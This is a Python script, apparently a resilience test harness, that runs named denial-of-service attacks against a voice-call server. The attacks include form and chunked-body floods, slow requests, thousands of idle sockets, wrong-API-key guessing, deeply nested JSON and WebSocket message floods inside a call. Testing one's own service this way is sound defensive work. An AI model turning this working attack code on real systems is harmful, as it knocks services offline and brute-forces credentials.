"""The attacks: ``python attacks.py NAME HOST PORT TOKEN SID`` in a process of its own; prints what became of it.

Each keeps to what a stranger can do with a network: bytes on sockets. ``TOKEN`` and ``SID`` belong to a call that the
attacker is admitted to; only the attacks from within a call use them.
"""

import asyncio
import json
import os
import struct
import sys
import time
from base64 import b64encode
from collections.abc import Awaitable, Callable
from contextlib import suppress

HOST, PORT, TOKEN, SID = sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
HOLD_S = 14.0
"""A little longer than any limit of time that a stranger has."""
UPGRADE = (
    b"GET /twilio/media HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n%s\r\n"
)

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def connect() -> Connection:
    return await asyncio.open_connection(HOST, PORT)


async def status(reader: asyncio.StreamReader) -> str:
    """The status of an answer; ``closed`` if there was none."""
    with suppress(ConnectionError, asyncio.IncompleteReadError):
        return (await reader.readuntil(b"\r\n")).split()[1].decode()
    return "closed"


async def ended(reader: asyncio.StreamReader, within: float) -> bool:
    """Whether a connection is closed by then."""
    with suppress(ConnectionError):
        try:
            async with asyncio.timeout(within):
                while await reader.read(65536):
                    pass
        except TimeoutError:
            return False
    return True


def request(method: str, path: str, body: bytes = b"", *headers: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}", *headers, "", ""]
    return "\r\n".join(lines).encode() + body


async def asked(data: bytes) -> str:
    """What one request on a connection of its own is answered."""
    try:
        reader, writer = await connect()
        with suppress(ConnectionError):
            writer.write(data)
            async with asyncio.timeout(HOLD_S):
                answer = asyncio.create_task(status(reader))
                with suppress(ConnectionError):
                    await writer.drain()
                return await answer
        return "closed"
    except (OSError, TimeoutError) as error:
        return type(error).__name__
    finally:
        with suppress(UnboundLocalError):
            writer.transport.abort()


async def many(data: bytes, times: int, at_once: int) -> str:
    """The same request many times."""
    turn = asyncio.Semaphore(at_once)

    async def one() -> str:
        async with turn:
            return await asked(data)

    return tally(await asyncio.gather(*(one() for _ in range(times))))


def tally(answers: list[str]) -> str:
    return ", ".join(f"{answers.count(answer)} x {answer}" for answer in sorted(set(answers)))


async def quiet() -> str:
    """No attack, for comparison."""
    await asyncio.sleep(HOLD_S)
    return ""


async def forms() -> str:
    """Ten forms of 10 MB of keys at once, unsigned."""
    body = b"&".join(b"k%d=" % n for n in range(1_100_000))[:10_000_000]
    form = "Content-Type: application/x-www-form-urlencoded"
    return await many(request("POST", "/twilio/voice", body, form, "X-Twilio-Signature: " + "A" * 28), 10, 10)


async def forms_in_chunks() -> str:
    """Bodies without a length, in chunks of one byte."""
    head = b"POST /twilio/voice HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nX-Twilio-Signature: %s\r\n\r\n"
    return await many(head % (b"A" * 28) + b"1\r\nk\r\n" * 100_000 + b"0\r\n\r\n", 20, 20)


async def slow() -> str:
    """300 requests of a byte a second."""

    async def one() -> str:
        reader, writer = await connect()
        closed = asyncio.create_task(ended(reader, HOLD_S))
        for byte in request("POST", "/twilio/voice", b"", "X-Slow: " + "x" * 100):
            if closed.done():
                break
            with suppress(ConnectionError):
                writer.write(bytes([byte]))
                await writer.drain()
            await asyncio.sleep(1)
        return "closed" if await closed else "open"

    return tally(await asyncio.gather(*(one() for _ in range(300))))


async def silent_sockets() -> str:
    """3,000 sockets that never send a start."""

    async def one() -> str:
        with suppress(OSError):
            reader, writer = await connect()
            writer.write(UPGRADE % b"")
            return "closed" if await ended(reader, 2 * HOLD_S) else "open"
        return "refused"

    return tally(await asyncio.gather(*(one() for _ in range(3000))))


async def idle() -> str:
    """400 connections that say nothing; they are held until standard input ends."""
    connections: list[Connection] = []
    for _ in range(400):
        with suppress(OSError):
            connections.append(await connect())
    print("holding", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    return f"{len(connections)} connected"


async def guesses() -> str:
    """3,000 wrong API keys."""
    return await many(request("GET", "/api/agents", b"", "Authorization: Bearer op26x_" + "x" * 43), 3000, 50)


async def schemas() -> str:
    """1,000 requests for what needs no key."""
    return await many(request("GET", "/schema/openapi.json"), 1000, 50)


async def at_once() -> str:
    """400 requests that were all sent but for their last byte, and that byte then at once."""
    data = request("GET", "/metrics")
    connections = [await connect() for _ in range(400)]
    for _, writer in connections:
        writer.write(data[:-1])
    await asyncio.sleep(1)
    for _, writer in connections:
        writer.write(data[-1:])
    return tally(await asyncio.gather(*(status(reader) for reader, _ in connections)))


async def nested_json() -> str:
    """JSON nested 60,000 deep, to the API."""
    return await many(request("POST", "/api/calls", b"[" * 60_000, "Content-Type: application/json"), 50, 10)


def text(data: bytes) -> bytes:
    """One message on a socket, masked with zeros."""
    size = len(data)
    if size < 126:
        head = struct.pack("!BB", 0x81, 0x80 | size)
    elif size < 65_536:
        head = struct.pack("!BBH", 0x81, 0x80 | 126, size)
    else:
        head = struct.pack("!BBQ", 0x81, 0x80 | 127, size)
    return head + bytes(4) + data


def media(samples: int) -> bytes:
    payload = b64encode(os.urandom(samples)).decode()
    return text(json.dumps({"event": "media", "streamSid": "MZ1", "media": {"payload": payload}}).encode())


async def in_a_call(data: bytes, extensions: bytes = b"") -> str:
    """Joins the call that the attacker is admitted to, and sends all that at once."""
    reader, writer = await connect()
    writer.write(UPGRADE % extensions)
    await reader.readuntil(b"\r\n\r\n")
    about = {"streamSid": "MZ1", "callSid": SID, "customParameters": {"token": TOKEN}}
    writer.write(text(json.dumps({"event": "start", "start": about}).encode()))
    await asyncio.sleep(1)
    started = time.monotonic()

    async def flood() -> None:
        with suppress(ConnectionError):
            for start in range(0, len(data), 65_536):
                writer.write(data[start : start + 65_536])
                await writer.drain()

    flooding = asyncio.create_task(flood())
    closed = await ended(reader, HOLD_S)
    taken = "all taken" if flooding.done() else "held by the network"
    flooding.cancel()
    writer.transport.abort()
    return f"closed after {time.monotonic() - started:.1f} s" if closed else f"open, {taken}"


async def audio() -> str:
    """One message of 6 MB of audio."""
    return await in_a_call(media(6_000_000))


async def frames() -> str:
    """20,000 frames at once."""
    return await in_a_call(media(160) * 20_000)


async def audio_by_the_second() -> str:
    """200 messages of 1.9 s of audio at once."""
    return await in_a_call(media(15_200) * 200)


async def marks() -> str:
    """200,000 marks and keys at once."""
    mark = text(b'{"event":"mark","mark":{"name":"x"}}')
    return await in_a_call(mark * 200_000)


async def nothing() -> str:
    """200,000 empty messages at once."""
    return await in_a_call(text(b"") * 200_000)


async def nested_message() -> str:
    """Messages of JSON nested 60,000 deep."""
    return await in_a_call(text(b'{"event":"media","x":' + b"[" * 60_000) * 30)


ATTACKS: dict[str, Callable[[], Awaitable[str]]] = {
    attack.__name__: attack
    for attack in (
        quiet,
        forms,
        forms_in_chunks,
        slow,
        silent_sockets,
        idle,
        guesses,
        schemas,
        at_once,
        nested_json,
        audio,
        frames,
        audio_by_the_second,
        marks,
        nothing,
        nested_message,
    )
}

if __name__ == "__main__":
    print(asyncio.run(ATTACKS[sys.argv[1]]()), flush=True)
